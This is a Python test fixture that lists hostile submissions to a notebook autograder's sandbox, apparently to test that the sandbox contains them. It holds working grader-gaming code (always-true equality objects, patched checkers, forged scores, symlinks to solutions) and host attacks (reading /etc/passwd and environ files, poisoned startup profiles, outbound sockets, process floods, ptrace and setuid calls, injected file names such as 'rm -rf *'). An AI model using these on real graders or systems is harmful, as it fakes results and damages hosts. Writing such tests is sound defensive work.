"""Hostile and broken submissions to the tiny course (unit 99): what each does, and what it may earn.

Each is bounded by construction, so that a hole in the sandbox costs a failed test and not the machine: a few hundred
processes or threads, a few GiB, a few seconds; what would go on for ever ends by itself after a minute.
"""

from __future__ import annotations

import codecs
import dataclasses
import json
from collections.abc import Callable, Mapping
from pathlib import Path

WRONG = """
def fourfold_root(x, scale=4.0):
    return x.double() + 1
"""
RIGHT = """
def fourfold_root(x, scale=4.0):
    if (x < 0).any():
        raise ValueError("below zero")
    return x.double().sqrt() * 4
"""
COUNTER = """
class Counter:
    def __init__(self, largest):
        self.largest, self.count = largest, 0

    def step(self):
        self.count = (self.count + 1) % (self.largest + 1)
        return self.count
"""
MARK = "lfs-attack-left-behind"  # what a process that should be gone has in its command line
# What nobody may get to see, or to say.
SECRETS = (
    "root:x:0:0", "THE-OTHERS-WORK", "math.cos(0.0)", "GRADEBOOK-IS-HERE", "THE-INPUTS-ARE-HERE", "IT-STAYS",
    "ANOTHER-COPY", "A-DEVICE-CHANGED",
)  # fmt: skip
NOTHING = {"check-fourfold_root": 0.0, "check-Counter": 0.0, "check-guess_root": 0.0, "check-guess_number": 0.0}
COUNTS = NOTHING | {"check-Counter": 2.0}  # what is right stays right, whatever stands beside it
FULL = {"check-fourfold_root": 4.0, "check-Counter": 2.0, "check-guess_root": 1.0, "check-guess_number": 2.0}
SOLVED = {
    "fourfold_root": RIGHT,
    "Counter": COUNTER,
    "guess_root": 'guess_root = "b"',
    "guess_number": "guess_number = 17.5",
}


@dataclasses.dataclass(frozen=True)
class Attack:
    """A submission.

    Attributes:
        answers: by grade_id, the sources of the cells.
        points: what it earns, exactly.
        change: done to submitted/LEARNER/unit_99 after the notebook was written.
    """

    name: str
    answers: Mapping[str, str]
    points: Mapping[str, float]
    change: Callable[[Path], object] | None = None


ATTACKS: list[Attack] = []


def code(name: str, source: str, points: Mapping[str, float] = COUNTS) -> None:
    """Hostile code in the cell of the first exercise; the second is solved, and must keep its points."""
    ATTACKS.append(Attack(name, {"fourfold_root": source, "Counter": COUNTER}, points))


def files(name: str, points: Mapping[str, float], answers: Mapping[str, str] = SOLVED) -> Callable[[Callable], None]:
    """Something that is done to the folder or to the notebook's file."""

    def enter(change: Callable[[Path], object]) -> None:
        ATTACKS.append(Attack(name, answers, points, change))

    return enter


def notebook_of(folder: Path) -> Path:
    return folder / f"{folder.name}.ipynb"


def rewrite(folder: Path, change: Callable[[dict], object]) -> None:
    file = notebook_of(folder)
    document = json.loads(file.read_text())
    change(document)
    file.write_text(json.dumps(document))


# --- Answers that want to be taken for right ---------------------------------------------------------------

code(
    "equal to everything",
    """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 2
    shape = (2,)
    dtype = "float64"

def fourfold_root(x, scale=4.0):
    return Yes()
""",
)
code(
    "a tensor that answers for itself",
    """
import torch

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})

def fourfold_root(x, scale=4.0):
    return (x.double() + 1).as_subclass(Liar)
""",
)
code(
    "another class pretended",
    """
import torch

class Pretender:
    @property
    def __class__(self): return torch.Tensor
    def detach(self): return self
    def __getattr__(self, name): return lambda *a, **k: self

def fourfold_root(x, scale=4.0):
    return Pretender()
""",
)
code(
    "a number and a text of another kind",
    """
class One(float):
    def __eq__(self, other): return True
    def __float__(self): return 8.0

def fourfold_root(x, scale=4.0):
    return [One(0), One(0)]
""",
)
code(
    "torch and numpy replaced",
    """
import builtins, math, numpy, torch
for module in (torch, numpy, torch.testing, numpy.testing):
    for name in ("allclose", "equal", "isclose", "assert_close", "assert_allclose", "array_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: True)
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
builtins.all = builtins.any = lambda *a: True
builtins.isinstance = lambda *a: True
"""
    + WRONG,
)
code(
    "the probe replaced",
    """
import lora_from_scratch.checks.observation as observation
import lora_from_scratch.checks.exercise as exercise
observation.observe = lambda probe, answer, inputs, *a, **k: [observation.Seen() for _ in inputs]
observation.plain = lambda value: 8.0
exercise.call = lambda answer, **inputs: inputs["x"].sqrt() * 4
exercise.Exercise.probe = staticmethod(lambda answer, **inputs: 8.0)
"""
    + WRONG,
)
code(
    "copying and seeding replaced",
    """
import copy, random, torch
copy.deepcopy = lambda value, memo=None: value
torch.default_generator.manual_seed(1)
random.getstate = lambda: None
"""
    + WRONG,
)
code(
    "asserts taken out of every cell",
    """
import ast

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()

get_ipython().ast_transformers.append(NoAsserts())
get_ipython().input_transformers_post.append(lambda lines: ["fourfold_root = lambda x: x\\n", *lines])
"""
    + WRONG,
)
code(
    "hooks around every cell",
    """
def again(*arguments): get_ipython().user_ns["fourfold_root"] = lambda x, scale=4.0: 8.0
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    get_ipython().events.register(event, again)
"""
    + WRONG,
)
code(
    "a namespace that changes its mind",
    """
class Names(dict):
    def __getitem__(self, name): return (lambda x, scale=4.0: 8.0) if name == "fourfold_root" else super().__getitem__(name)

get_ipython().user_ns = Names(get_ipython().user_ns)
"""
    + WRONG,
    NOTHING,  # the shell goes on with the names that it knows: whoever takes them away has none
)
code(
    "a thread that changes the answer later",
    WRONG
    + """
import threading, time

def later():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        globals()["fourfold_root"] = lambda x, scale=4.0: x.double() + 2
        time.sleep(0.001)

threading.Thread(target=later, daemon=True).start()
""",
)
code("the library's own answer", "from tiny_library import fourfold_root\n")
code(
    "the library's own answer, wrapped",
    "import tiny_library\ndef fourfold_root(x): return tiny_library.fourfold_root(x)\n",
)
code(
    "the source of the library's answer",
    """
import inspect, tiny_library
exec("import math, torch\\n" + inspect.getsource(tiny_library.fourfold_root).replace("Tensor", "object"))
print(inspect.getsource(tiny_library))
""",
)
ATTACKS.append(
    Attack(
        "predictions that agree with everything",
        {
            "guess_root": "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\n"
            "    def strip(self): return 'b'\n    def lower(self): return 'b'\nguess_root = S('no')",
            "guess_number": "class F(float):\n    def __truediv__(self, o): return 1.0\n    def __mul__(self, o): return 1.0\n"
            "guess_number = F(-1)",
            "Counter": COUNTER,
        },
        COUNTS,
    )
)
ATTACKS.append(
    Attack(
        "predictions looked up",
        {
            "guess_root": "from lora_from_scratch.checks import units\n"
            "guess_root = [p.answer for u in units.units() for p in u.predictions if p.name == 'guess_root'][0]",
            "guess_number": "import glob\n"
            "print([open(f).read() for f in glob.glob('/**/unit_99.py', recursive=True)])\nguess_number = None",
            "Counter": COUNTER,
        },
        COUNTS,
    )
)

# --- Looking for the judge, forging what it gets -----------------------------------------------------------

code(
    "the judge in the stack and among all objects",
    """
import gc, sys

def fourfold_root(x, scale=4.0):
    frame = sys._getframe()
    while frame:
        for name in ("expected", "right", "answer_key"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    for thing in gc.get_objects():
        if getattr(thing, "__name__", "") in ("judge", "expected_of", "agrees"):
            return thing
        if isinstance(thing, dict) and "expected" in thing:
            return thing["expected"]
    return x
""",
)
code(
    "the judge and the bank imported",
    """
import importlib
found = []
for name in ("judge", "bank", "diagnosis", "answers", "answers.unit_01", "comparing"):
    try:
        found.append(importlib.import_module(f"lora_from_scratch.checks.{name}"))
    except ImportError:
        pass
for module in found:
    if hasattr(module, "judge"):
        def fourfold_root(x, scale=4.0): return module.expected_of
"""
    + WRONG,
)
code(
    "noise into every file descriptor",
    """
import os

def noise():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\\x00\\x00\\x00\\x04" + bytes(16) + b"null" * 50)
        except OSError:
            pass

noise()
def fourfold_root(x, scale=4.0):
    noise()
    return x
""",
)
code(
    "forged frames by the runner's own hand",
    """
import gc

def forge():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Runner":
            seen = {"value": {"float": 8.0}, "errors": [], "message": "", "where": "", "changed": [], "printed": "", "stopped": False}
            for step in range(12):
                thing.send({"kind": "tried", "step": step, "status": "seen", "message": "", "changed": [], "called": [], "seen": [seen] * 3})

def fourfold_root(x, scale=4.0):
    forge()
    return x
""",
)
code(
    "a pickle that does something",
    "import os\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/x',))\ndef fourfold_root(x, scale=4.0): return P()\n",
)

# --- Reading and writing what is not theirs ----------------------------------------------------------------

code(
    "walking up the folders",
    """
import glob, os
for pattern in ("/etc/passwd", "../*", "../../*", "../../../*", "/root/*", "/home/*", "/work/*", "/**/submitted/**", "/**/gradebook.db", "/**/solutions/**", "/proc/1/root/*", "/proc/*/environ"):
    for place in glob.glob(pattern, recursive=pattern.count("**") < 2)[:20]:
        try:
            print(place, open(place, errors="replace").read(2000))
        except OSError as error:
            print(place, error)
"""
    + WRONG,
)
code(
    "writing wherever it can",
    """
import os, pathlib, sys
import torch
places = ["/", "/etc", "/usr", "/work", "/root", "/dev", "/proc/sys/kernel", os.path.dirname(torch.__file__), os.path.dirname(sys.executable), "..", "../..", "../../.."]
for place in places:
    try:
        pathlib.Path(place, "lfs-was-here").write_text("x")
    except OSError:
        pass
"""
    + WRONG,
)
code(
    "the network",
    """
import socket, urllib.request
for host in (("127.0.0.1", PORT), ("8.8.8.8", 53), ("example.org", 443)):
    try:
        socket.create_connection(host, timeout=1).sendall(b"hello from the sandbox")
    except OSError:
        pass
"""
    + WRONG,
)
code(
    "environment and profiles for the next one",
    """
import os, pathlib
home = pathlib.Path.home()
for name in (".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc", ".pythonrc", "sitecustomize.py"):
    try:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("raise SystemExit")
    except OSError:
        pass
os.environ.update({"PYTHONSTARTUP": "x", "LORA_FROM_SCRATCH_UNITS": "/tmp", "PYTHONPATH": "/tmp"})
"""
    + WRONG,
)

# --- Using everything up -----------------------------------------------------------------------------------

code(
    "many processes",
    """
import os, time
children = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
"""
    + WRONG,
)
code(
    "a process that stays",
    f"""
import multiprocessing, subprocess, sys
for start in (
    lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "{MARK}"], start_new_session=True),
    lambda: multiprocessing.Process(target=print).start(),
):
    try:
        start()
    except OSError:
        pass
get_ipython().system_raw("sleep 60 # {MARK} &")
"""
    + WRONG,
)
code(
    "many threads",
    """
import threading, time
for _ in range(400):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except RuntimeError:
        break
"""
    + WRONG,
    NOTHING | {"check-Counter": 2.0},
)
code("much memory, bit by bit", "kept = []\nfor _ in range(40):\n    kept.append(bytearray(100 * 2**20))\n" + WRONG)
code("much memory at once", "import torch\ndef fourfold_root(x, scale=4.0):\n    return torch.ones(2**30)\n")
code(
    "a disk filler",
    """
import os
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    for number in range(40):
        try:
            with open(f"{place}/filler-{number}", "wb") as file:
                file.write(bytes(50 * 2**20))
        except OSError:
            break
"""
    + WRONG,
)
code(
    "many files",
    """
import os
os.makedirs("many", exist_ok=True)
for number in range(60_000):
    try:
        open(f"many/{number}", "w").close()
    except OSError:
        break
"""
    + WRONG,
)
code("endless output", "for number in range(3_000_000):\n    print('and on and on', number)\n" + WRONG)
code(
    "one enormous line",
    "import sys\nsys.stdout.write('x' * 200_000_000)\nsys.stderr.write('y' * 100_000_000)\n" + WRONG,
)
code(
    "an enormous error",
    "class Big(Exception):\n    def __str__(self): return 'e' * 100_000_000\ndef fourfold_root(x, scale=4.0): raise Big\nraise Big\n",
    COUNTS,
)
code("an answer that is too large", "import torch\ndef fourfold_root(x, scale=4.0): return torch.zeros(30_000_000)\n")
code(
    "an answer without a floor",
    "def fourfold_root(x, scale=4.0):\n    deep = []\n    for _ in range(100_000): deep = [deep]\n    return deep\n",
)
code(
    "an answer that contains itself",
    "def fourfold_root(x, scale=4.0):\n    loop = []\n    loop.append(loop)\n    return loop\n",
)
code("recursion without end", "def fourfold_root(x, scale=4.0): return fourfold_root(x)\n")

# --- Not ending, and ending too early ----------------------------------------------------------------------

WAIT = "import time\nend = time.monotonic() + 60\nwhile time.monotonic() < end: pass\n"
code("a cell without end", WAIT + WRONG)
code(
    "an answer without end that catches everything",
    """
import time

def fourfold_root(x, scale=4.0):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            while time.monotonic() < end: pass
        except BaseException:
            pass
""",
)
code(
    "deaf to every signal",
    """
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
end = time.monotonic() + 60
while time.monotonic() < end: pass
"""
    + WRONG,
)
code("stopped by itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n" + WRONG)
code("asleep", "import time\ntime.sleep(60)\n" + WRONG)
code("exit without a word", WRONG + "import os\nos._exit(0)\n", COUNTS)
code("exit in the answer", "import os\ndef fourfold_root(x, scale=4.0): os._exit(0)\n")
code("exit in the answer, politely", "def fourfold_root(x, scale=4.0): raise SystemExit(0)\n")
code("a crash of the interpreter", "import ctypes\nctypes.string_at(0)\n" + WRONG)
code(
    "signals to the parent and to everybody",
    """
import os, signal
for target in (os.getppid(), 1, 0, -1):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
"""
    + WRONG,
    NOTHING | {"check-Counter": 2.0},
)
code(
    "handlers for the end",
    "import atexit, threading, time\natexit.register(time.sleep, 60)\nthreading.Thread(target=time.sleep, args=(60,)).start()\n"
    + WRONG,
)
code(
    "tracing and foreign memory",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, os.getppid(), 0, 0)
libc.syscall(311, os.getppid(), 0, 0, 0, 0, 0)
libc.unshare(0x10000000)
libc.mount(b"proc", b"/tmp", b"proc", 0, None)
libc.chroot(b"/tmp")
libc.setuid(0)
"""
    + WRONG,
)

# --- Files ---------------------------------------------------------------------------------------------------


@files("a link to another learner's notebook", NOTHING)
def link_to_another(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).symlink_to(folder.parents[1] / "honest-00" / folder.name / f"{folder.name}.ipynb")


@files("a link to the solutions", NOTHING)
def link_to_the_solutions(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).symlink_to(folder.parents[2] / "solutions" / folder.name / f"{folder.name}.ipynb")


@files(
    "links beside the notebook",
    COUNTS,
    {
        "Counter": COUNTER,
        "fourfold_root": "import glob\nfor f in glob.glob('*'):\n    print(f, open(f).read(500))\n" + WRONG,
    },
)
def links_beside(folder: Path) -> None:
    (folder / "gradebook").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "others").symlink_to(folder.parents[1])
    (folder / "passwd").symlink_to("/etc/passwd")


@files("modules that take the place of others", FULL)
def modules_beside(folder: Path) -> None:
    for name in ("torch", "numpy", "json", "lora_from_scratch", "tiny_library", "sitecustomize", "usercustomize"):
        (folder / f"{name}.py").write_text("import os\nos._exit(9)\n")
    (folder / "IPython").mkdir()
    (folder / "IPython" / "__init__.py").write_text("raise SystemExit")


@files("a notebook of 30 MB", NOTHING)
def huge(folder: Path) -> None:
    rewrite(
        folder, lambda document: document["cells"].append(document["cells"][0] | {"source": "# " + "x" * 30_000_000})
    )


@files("outputs of 10 MB", FULL)
def many_outputs(folder: Path) -> None:
    def fill(document: dict) -> None:
        cell = next(cell for cell in document["cells"] if cell["cell_type"] == "code")
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 10_000_000}]

    rewrite(folder, fill)


@files("no JSON", NOTHING)
def no_json(folder: Path) -> None:
    notebook_of(folder).write_text(notebook_of(folder).read_text()[:500])


@files("JSON without a floor", NOTHING)
def deep_json(folder: Path) -> None:
    notebook_of(folder).write_text('{"cells":' + "[" * 200_000)


@files("an empty file", NOTHING)
def empty_file(folder: Path) -> None:
    notebook_of(folder).write_text("")


@files("a list in the place of a notebook", NOTHING)
def a_list(folder: Path) -> None:
    notebook_of(folder).write_text("[1, 2, 3]")


@files("cells that are no cells", NOTHING)
def no_cells(folder: Path) -> None:
    rewrite(folder, lambda document: document.update(cells=[None, 3, {"cell_type": "code"}, {"source": {"a": 1}}]))


@files("UTF-16", FULL)
def utf_16(folder: Path) -> None:
    text = notebook_of(folder).read_text()
    notebook_of(folder).write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))


@files("bytes that are no text", NOTHING)
def no_text(folder: Path) -> None:
    notebook_of(folder).write_bytes(bytes(range(256)) * 20)


@files("a folder in the place of a notebook", NOTHING)
def a_folder(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).mkdir()


@files("points written into the outputs", COUNTS, {"Counter": COUNTER, "fourfold_root": WRONG})
def points_in_outputs(folder: Path) -> None:
    def forge(document: dict) -> None:
        for cell in document["cells"]:
            if "check(" in "".join(cell["source"]) and cell["cell_type"] == "code":
                data = {"text/plain": "4.0"}
                cell["outputs"] = [
                    {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
                ]

    rewrite(folder, forge)


@files("checks that give points away", COUNTS, {"Counter": COUNTER, "fourfold_root": WRONG})
def checks_edited(folder: Path) -> None:
    def forge(document: dict) -> None:
        for cell in document["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "4.0"

    rewrite(folder, forge)


@files("metadata that raises the points", COUNTS, {"Counter": COUNTER, "fourfold_root": WRONG})
def points_raised(folder: Path) -> None:
    def forge(document: dict) -> None:
        for cell in document["cells"]:
            said = cell["metadata"].get("nbgrader", {})
            if said:
                said.update(points=1000, locked=False, solution=True, task=False)

    rewrite(folder, forge)


@files("all grade_ids the same", FULL)
def same_ids(folder: Path) -> None:
    def forge(document: dict) -> None:
        for cell in document["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"]["grade_id"] = "check-fourfold_root"

    rewrite(folder, forge)


@files("metadata stripped", FULL)
def stripped(folder: Path) -> None:
    rewrite(folder, lambda document: [cell["metadata"].clear() for cell in document["cells"]])


@files("a solution twice", FULL)
def twice(folder: Path) -> None:
    def copy(document: dict) -> None:
        place = next(n for n, cell in enumerate(document["cells"]) if "def fourfold_root" in "".join(cell["source"]))
        document["cells"].insert(place + 1, dict(document["cells"][place]))

    rewrite(folder, copy)


@files("all code in one cell", FULL)
def merged(folder: Path) -> None:
    def merge(document: dict) -> None:
        codes = [cell for cell in document["cells"] if cell["cell_type"] == "code"]
        text = "\n\n".join("".join(cell["source"]) for cell in codes)
        rest = [cell for cell in document["cells"] if cell["cell_type"] != "code"]
        document["cells"] = [*rest, codes[0] | {"source": text, "metadata": {}}]

    rewrite(folder, merge)


@files("upside down", FULL)
def upside_down(folder: Path) -> None:
    rewrite(folder, lambda document: document["cells"].reverse())


@files("a time that is none, and files with odd names", FULL)
def odd_files(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("yesterday, about noon; DROP TABLE grade")
    (folder / "a\nb; rm -rf *").write_text("x")
    (folder / ("x" * 200)).write_text("x")
